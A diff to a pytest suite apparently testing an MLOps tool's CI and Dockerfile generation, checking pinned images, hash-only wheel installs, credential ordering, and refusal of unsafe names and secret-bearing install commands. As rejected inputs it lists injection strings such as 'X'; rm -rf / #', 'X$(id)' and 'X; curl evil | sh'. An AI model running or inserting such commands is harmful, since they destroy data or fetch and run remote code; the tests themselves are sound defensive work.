@@ -5,17 +5,22 @@ To update the files after an intended change: MLOPS_UPDATE_GOLDEN=1 pytest plugi
 
 import json
 import os
+import re
 import shutil
 import subprocess
 import sys
 import zipfile
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 import yaml
-from mlops_sagemaker.delivery.ci import PROVIDERS, SECRETS, Project, render, template
+from mlops_sagemaker.delivery.ci import ACTIONS, INSTALL, PROVIDERS, SECRETS, Project, ci_file, render, template
 from mlops_sagemaker.plugin import SAGEMAKER
+from mlops_sagemaker.values.names import checked_name
 
+from mlops_core.errors import UsageError
+from mlops_core.runners.container.base_images import base_image
 from mlops_core.runners.container.packaging import _template, constraints, image_tag, write_image_folder
 from mlops_core.use_cases.discovery import find_use_case
 
@@ -88,15 +93,14 @@ def calls():
 @pytest.fixture
 def s3(tmp_path):
     """Yield an S3 client of an endpoint with a bucket, and the variables to access it."""
-    boto3 = pytest.importorskip("boto3", reason="the extra 'aws' is not installed")
+    pytest.importorskip("boto3", reason="the extra 'aws' is not installed")
     pytest.importorskip("moto", reason="the extra 'test' is not installed")
     from mlops_sagemaker.emulator.endpoint.server import SageMakerEndpoint
 
-    keys = {"aws_access_key_id": "any", "aws_secret_access_key": "any"}
     with SageMakerEndpoint(tmp_path / "endpoint") as endpoint:
-        client = boto3.client("s3", endpoint_url=endpoint.url, region_name="us-east-1", **keys)
+        client = endpoint.client("s3")
         client.create_bucket(Bucket="bucket")
-        yield client, {"AWS_ENDPOINT_URL": endpoint.url, **{name.upper(): value for name, value in keys.items()}}
+        yield client, {"AWS_ENDPOINT_URL": endpoint.url, **endpoint.credential.environment()}
 
 
 def keys_of(client):
@@ -218,7 +222,7 @@ def test_folder_with_other_files_is_not_changed(toy, tmp_path):
 
 
 def texts_of_this_project():
-    values = {"use_case": "AED", "python": "3.11", "module": STEP_IMAGE.module}
+    values = {"use_case": "AED", "base_image": base_image("3.11", environ={}), "module": STEP_IMAGE.module}
     return {
         "buildspec.yml": render("codebuild", THIS_PROJECT),
         "github-workflow.yml": render("github", THIS_PROJECT),
@@ -264,6 +268,151 @@ def test_ci_file_is_yaml_with_valid_shell_scripts(toy, tmp_path, provider):
     done = subprocess.run(command, capture_output=True, text=True, check=False)
     assert (done.returncode, "exists; --force replaces it" in done.stderr) == (2, True)
     subprocess.run([*command, "--force"], capture_output=True, check=True)
+
+
+@pytest.mark.parametrize("provider", sorted(PROVIDERS))
+def test_default_installation_takes_this_project_from_hashed_wheels_only(provider):
+    commands = [line for text in scripts(yaml.safe_load(ci_file("AED", provider=provider).text)) for line in [text]]
+    (command,) = [each for each in commands if "pip install" in each]
+    assert command == INSTALL
+    first, *_ = command.split(" && ")
+    assert {"--no-index", "--require-hashes", "--no-deps", "--requirement"} <= set(first.split())
+    words = [word for part in command.split(" && ") for word in part.split()[2:] if not word.startswith("-")]
+    assert all("/" in word or word == "." for word in words), words  # folders and files, no name that an index resolves
+
+
+def positions(text, *parts):
+    return [text.index(part) for part in parts]
+
+
+def test_credentials_come_after_the_installation():
+    github = render("github", THIS_PROJECT)
+    assert positions(github, "pip install", "configure-aws-credentials@", "secrets.") == sorted(
+        positions(github, "pip install", "configure-aws-credentials@", "secrets.")
+    )
+    job = yaml.safe_load(github)["jobs"]["pipeline"]
+    assert job["env"] == {"USECASE_NAME": "AED"}
+    assert {name for step in job["steps"] for name in step.get("env", {})} >= set(SECRETS)
+    gitlab = render("gitlab", THIS_PROJECT)
+    order = ("unset OIDC_TOKEN", "pip install", '> "$AWS_WEB_IDENTITY_TOKEN_FILE"')
+    assert positions(gitlab, *order) == sorted(positions(gitlab, *order))
+    codebuild = render("codebuild", THIS_PROJECT)
+    order = ("unset AWS_CONTAINER_CREDENTIALS_RELATIVE_URI", "pip install", "export AWS_CONTAINER_CREDENTIALS")
+    assert positions(codebuild, *order) == sorted(positions(codebuild, *order))
+
+
+def test_credentials_of_the_build_are_back_after_the_installation(tmp_path):
+    commands = yaml.safe_load(render("codebuild", THIS_PROJECT))["phases"]["install"]["commands"]
+    script = "\n".join(commands).replace(THIS_PROJECT.install, 'env > during; echo "${AWS_CONTAINER:-}"')
+    script += '\nprintf %s "${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI-unset}"'
+    for uri, after in (("/v2/credentials/marked", "/v2/credentials/marked"), (None, "unset")):
+        environ = {"PATH": os.environ["PATH"]} | ({"AWS_CONTAINER_CREDENTIALS_RELATIVE_URI": uri} if uri else {})
+        done = subprocess.run(
+            ["bash", "-euc", script], capture_output=True, text=True, check=True, env=environ, cwd=tmp_path
+        )
+        assert done.stdout.strip() == after
+        assert "marked" not in (tmp_path / "during").read_text()
+
+
+def test_actions_and_images_are_pinned():
+    uses = [
+        step["uses"]
+        for step in yaml.safe_load(render("github", THIS_PROJECT))["jobs"]["pipeline"]["steps"]
+        if "uses" in step
+    ]
+    assert sorted(each.partition("@")[0] for each in uses) == sorted(ACTIONS)
+    assert all(re.fullmatch(r"[0-9a-f]{40}", each.partition("@")[2]) for each in uses)
+    image = yaml.safe_load(render("gitlab", THIS_PROJECT))["pipeline"]["image"]
+    assert re.fullmatch(r"python:3\.11-slim@sha256:[0-9a-f]{64}", image)
+    (line,) = [line for line in texts_of_this_project()["Dockerfile"].splitlines() if line.startswith("FROM ")]
+    assert line == f"FROM {image}"
+
+
+def test_base_image_without_a_known_digest_is_refused_by_name():
+    pinned = f"registry.example.org/python:3.14@sha256:{'a' * 64}"
+    assert base_image("3.14", environ={"MLOPS_BASE_IMAGE": pinned}) == pinned
+    with pytest.raises(UsageError, match="no base image is recorded for Python 3.14; set MLOPS_BASE_IMAGE=python:3.14"):
+        base_image("3.14", environ={})
+    with pytest.raises(UsageError, match="'python:3.11' is not pinned by a digest"):
+        base_image("3.11", environ={"MLOPS_BASE_IMAGE": "python:3.11"})
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "X${{secrets.Y}}",
+        "X${{ github.token }}",
+        "X\nrun: evil",
+        "X'; rm -rf / #",
+        "X$(id)",
+        "X`id`",
+        "../X",
+        "a..b",
+        "X/Y",
+        "-X",
+        "",
+        "X" * 200,
+    ],
+)
+@pytest.mark.parametrize("provider", sorted(PROVIDERS))
+def test_name_that_is_more_than_a_name_reaches_no_file(provider, name):
+    with pytest.raises(UsageError, match="cannot be the name of a use case"):
+        ci_file(name, provider=provider)
+    with pytest.raises(UsageError, match="cannot be the name of a use case"):
+        render(provider, Project(use_case=name))
+
+
+@pytest.mark.parametrize("name", ["AED", "ROAD_SIGN", "my-use.case2", "a"])
+def test_plain_name_is_returned(name):
+    assert checked_name(name, what="use case") == name
+
+
+@pytest.mark.parametrize(
+    ("install", "words"),
+    [
+        ("pip install --index-url https://me:hunter2@host/simple x", "is a URL with a password"),
+        ("PIP_TOKEN=hunter2 pip install .", "sets PIP_TOKEN, which names a secret"),
+    ],
+)
+def test_secret_in_the_install_command_is_refused(install, words):
+    with pytest.raises(UsageError, match=f"--install {words}") as caught:
+        ci_file("AED", provider="github", install=install)
+    assert "hunter2" not in str(caught.value)
+
+
+def test_variable_of_the_service_in_the_install_command_is_kept():
+    install = 'PIP_TOKEN="$INDEX_TOKEN" pip install --constraint=constraints.txt .'
+    assert install in ci_file("AED", provider="codebuild", install=install).text
+
+
+def test_name_that_is_more_than_a_name_reaches_no_dockerfile(tmp_path):
+    evil = replace(find_use_case("AED"), name="X; curl evil | sh")
+    with pytest.raises(UsageError, match="the name would be a part of a script"):
+        write_image_folder(evil, STEP_IMAGE, tmp_path / "image")
+    assert not (tmp_path / "image").exists()
+
+
+@pytest.mark.slow_suite
+@pytest.mark.slow
+def test_wheels_of_the_image_are_installed_by_their_hashes(tmp_path):
+    """The first command of the Dockerfile and of the CI files, without an index."""
+    pytest.importorskip("mlops_aed")
+    folder = tmp_path / "image"
+    write_image_folder(find_use_case("AED"), STEP_IMAGE, folder)
+    lines = (folder / "wheels.txt").read_text().splitlines()
+    assert [line.partition("==")[0] for line in lines] == ["mlops-aed", "mlops-sagemaker", "mlops-usecases"]
+    pip = [sys.executable, "-m", "pip", "--disable-pip-version-check", "install", "--quiet", "--target"]
+    options = ["--no-index", "--no-deps", "--require-hashes", "--find-links", folder / "wheels", "--requirement"]
+    subprocess.run([*pip, tmp_path / "site", *options, folder / "wheels.txt"], check=True)
+    assert (tmp_path / "site" / "mlops_core" / "__init__.py").is_file()
+    wheel = next((folder / "wheels").glob("mlops_aed*.whl"))
+    with zipfile.ZipFile(wheel, "a") as archive:
+        archive.writestr("mlops_aed/added.py", "")
+    done = subprocess.run(
+        [*pip, tmp_path / "other", *options, folder / "wheels.txt"], capture_output=True, text=True, check=False
+    )
+    assert done.returncode != 0
+    assert "DO NOT MATCH THE HASHES" in done.stderr
 
 
 def test_github_workflow_assumes_a_role_and_stores_no_key():
